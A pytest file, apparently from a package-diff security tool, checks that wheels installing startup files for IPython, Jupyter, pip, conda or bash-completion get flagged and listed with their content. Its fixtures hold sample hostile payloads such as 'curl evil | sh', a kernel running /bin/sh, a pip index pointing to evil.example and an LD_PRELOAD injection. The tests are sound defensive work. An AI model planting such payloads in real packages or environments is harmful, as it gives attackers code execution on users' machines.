"""Data files a tool of the environment runs or loads at its start (review64): pip installs
`NAME.data/data/X` to `PREFIX/X`, `sys.prefix` in a virtual environment, where IPython reads
`etc/ipython/`, Jupyter `etc/jupyter/` and `share/jupyter/{kernels,labextensions,
nbextensions}/`, pip its `pip.conf`, the interpreter `pyvenv.cfg`, and bash-completion
`share/bash-completion/completions/`. Each was W501 (informational): a wheel adding an
`ipython_config.py` that runs at every IPython start passed `wheels`. They are execution
surfaces (W717), failing by default where new or changed, the content listed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_support import run_k3diff

from wheel.pipinstall import pip_install
from wheel.test_installed_view import BASE_FILES, codes, wheels_json
from wheel.tricks import build

TOOL_FILES = {
    "ipython-config": ("etc/ipython/ipython_config.py", b"import os; os.system('id')\n"),
    "ipython-kernel-config": (
        "etc/ipython/ipython_kernel_config.py",
        b"c.InteractiveShellApp.exec_lines = ['import evil']\n",
    ),
    "jupyter-server-extension": (
        "etc/jupyter/jupyter_server_config.d/demo.json",
        b'{"ServerApp": {"jpserver_extensions": {"evil": true}}}\n',
    ),
    "jupyter-config-py": ("etc/jupyter/jupyter_server_config.py", b"import evil\n"),
    "nbconfig": ("etc/jupyter/nbconfig/notebook.d/demo.json", b'{"load_extensions": {"x": 1}}'),
    "kernel": (
        "share/jupyter/kernels/demo/kernel.json",
        b'{"argv": ["/bin/sh", "-c", "id"], "display_name": "Python 3"}\n',
    ),
    "labextension": ("share/jupyter/labextensions/demo/static/remoteEntry.js", b"fetch('x')\n"),
    "nbextension": ("share/jupyter/nbextensions/demo/main.js", b"define([], function(){})\n"),
    "pip-conf": ("pip.conf", b"[global]\nindex-url = https://evil.example/simple\n"),
    "pyvenv-cfg": ("pyvenv.cfg", b"home = /tmp/evil\ninclude-system-site-packages = true\n"),
    "bash-completion": ("share/bash-completion/completions/git", b"curl evil | sh\n"),
    "case-blind": ("ETC/Jupyter/jupyter_notebook_config.py", b"import evil\n"),
    # review64b: a conda environment's activation sources these, and exports those variables.
    "conda-activate": ("etc/conda/activate.d/demo.sh", b"curl evil | sh\n"),
    "conda-deactivate": ("etc/conda/deactivate.d/demo.bat", b"@call evil.bat\n"),
    "conda-env-vars": ("etc/conda/env_vars.d/demo.json", b'{"LD_PRELOAD": "/tmp/evil.so"}\n'),
}


@pytest.mark.parametrize("case", sorted(TOOL_FILES))
def test_a_new_tool_file_fails_wheels_and_is_listed_with_its_content(
    tmp_path: Path, case: str
) -> None:
    where, body = TOOL_FILES[case]
    entry = f"demo-2.0.data/data/{where}"
    base = build(tmp_path / "b", "1.0", BASE_FILES)
    patch = build(tmp_path / "p", "2.0", {**BASE_FILES, entry: body})
    exit_code, report = wheels_json(base, patch)
    assert exit_code == 1
    failing = [(f["code"], f["path"]) for f in report["findings"] if f["severity"] == "error"]
    assert failing == [("W717", entry)]
    (surface,) = [s for s in report["execution_surfaces"]["patch"] if s["kind"] == "tool-config"]
    assert (surface["key"], surface["entry"], surface["content"]) == (where, entry, body.decode())
    changes = {c["key"]: c["status"] for c in report["execution_surfaces"]["changes"]}
    assert changes[where] == "added"
    # where pip really writes it: PREFIX/<where>, sys.prefix of a virtual environment
    installed = pip_install(patch, tmp_path / "prefix", prefix=True)
    assert installed.ok and where in installed.tree, installed.output
    assert run_k3diff("wheels", base, patch, "--ignore", "W717").exit_code == 0
    text = run_k3diff("wheels", base, patch).stdout
    assert f"tool-config {where}:" in text and body.decode().splitlines()[0] in text


def test_a_changed_tool_file_fails_an_unchanged_one_passes_a_removed_one_is_listed(
    tmp_path: Path,
) -> None:
    config = "demo-{}.data/data/etc/jupyter/jupyter_server_config.d/demo.json"
    kernel = "demo-{}.data/data/share/jupyter/kernels/demo/kernel.json"
    gone = "demo-{}.data/data/etc/ipython/ipython_config.json"
    argv = b'{"argv": ["python", "-m", "demo_kernel", "-f", "{connection_file}"]}\n'
    base = build(
        tmp_path / "b",
        "1.0",
        {
            **BASE_FILES,
            config.format("1.0"): b'{"ServerApp": {"jpserver_extensions": {"demo": true}}}',
            kernel.format("1.0"): argv,
            gone.format("1.0"): b"{}",
        },
    )
    patch_files = {
        **BASE_FILES,
        config.format("2.0"): b'{"ServerApp": {"jpserver_extensions": {"evil": true}}}',
        kernel.format("2.0"): argv,
    }
    patch = build(tmp_path / "p", "2.0", patch_files)
    exit_code, report = wheels_json(base, patch)
    assert exit_code == 1
    failing = [(f["code"], f["path"]) for f in report["findings"] if f["severity"] == "error"]
    assert failing == [("W717", config.format("2.0"))]
    changes = {c["key"]: c["status"] for c in report["execution_surfaces"]["changes"]}
    assert changes == {
        **changes,
        "etc/jupyter/jupyter_server_config.d/demo.json": "changed",
        "share/jupyter/kernels/demo/kernel.json": "unchanged",
        "etc/ipython/ipython_config.json": "removed",
    }
    assert "W710" in codes(report)
    # the same pair with the config unchanged passes
    same = build(tmp_path / "s", "2.0", {**patch_files, config.format("2.0"): base_config(base)})
    exit_code, report = wheels_json(base, same)
    assert exit_code == 0, report["findings"]


def base_config(wheel: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(wheel) as archive:
        return archive.read("demo-1.0.data/data/etc/jupyter/jupyter_server_config.d/demo.json")


def test_a_waiver_lets_a_reviewed_tool_file_pass(tmp_path: Path) -> None:
    entry = "demo-2.0.data/data/share/jupyter/kernels/demo/kernel.json"
    base = build(tmp_path / "b", "1.0", BASE_FILES)
    patch = build(tmp_path / "p", "2.0", {**BASE_FILES, entry: b'{"argv": ["python"]}'})
    waivers = tmp_path / "w.toml"
    waivers.write_text(
        f'[[waiver]]\ncode = "W717"\npath = "{entry}"\nreason = "our kernel, reviewed in #1"\n'
    )
    assert run_k3diff("wheels", base, patch, "--waivers", waivers).exit_code == 0


@pytest.mark.parametrize(
    "where",
    [
        "etc/ipython/profile_default/startup/00-x.py",  # the profile's startup/ is ~/.ipython's
        "share/jupyter/nbconvert/templates/demo/index.html.j2",
        "share/doc/demo/README",
        "etc/demo.conf",
    ],
)
def test_data_files_no_tool_reads_from_the_environment_stay_informational(
    tmp_path: Path, where: str
) -> None:
    base = build(tmp_path / "b", "1.0", BASE_FILES)
    patch = build(tmp_path / "p", "2.0", {**BASE_FILES, f"demo-2.0.data/data/{where}": b"x\n"})
    exit_code, report = wheels_json(base, patch)
    assert exit_code == 0 and "W717" not in codes(report), report["findings"]
    assert all(s["kind"] != "tool-config" for s in report["execution_surfaces"]["patch"])


def test_audit_lists_a_wheels_tool_files(tmp_path: Path) -> None:
    where, body = TOOL_FILES["ipython-config"]
    wheel = build(tmp_path / "w", "1.0", {**BASE_FILES, f"demo-1.0.data/data/{where}": body})
    result = run_k3diff("audit", wheel, "--format", "json")
    assert result.exit_code == 0, result.stdout + result.stderr
    (artifact,) = json.loads(result.stdout)["artifacts"]
    (surface,) = [s for s in artifact["execution_surfaces"] if s["kind"] == "tool-config"]
    assert (surface["key"], surface["content"]) == (where, body.decode())
    assert "IPython" in surface["summary"]


def test_a_document_whose_tool_file_finding_was_deleted_is_refused(tmp_path: Path) -> None:
    where, body = TOOL_FILES["kernel"]
    base = build(tmp_path / "b", "1.0", BASE_FILES)
    patch = build(tmp_path / "p", "2.0", {**BASE_FILES, f"demo-2.0.data/data/{where}": body})
    run = run_k3diff("wheels", base, patch, "--format", "json", "-o", "s.json", cwd=tmp_path)
    assert run.exit_code == 1, run.stderr
    document = json.loads((tmp_path / "s.json").read_text())
    document["findings"] = [f for f in document["findings"] if f["code"] != "W717"]
    document["verdict"].update(ok=True, exit_code=0)
    (tmp_path / "forged.json").write_text(json.dumps(document))
    result = run_k3diff("report", "forged.json", "--out", "bundle", cwd=tmp_path)
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "1 tool-config surfaces added or changed but it lists 0 W717 findings" in result.stderr
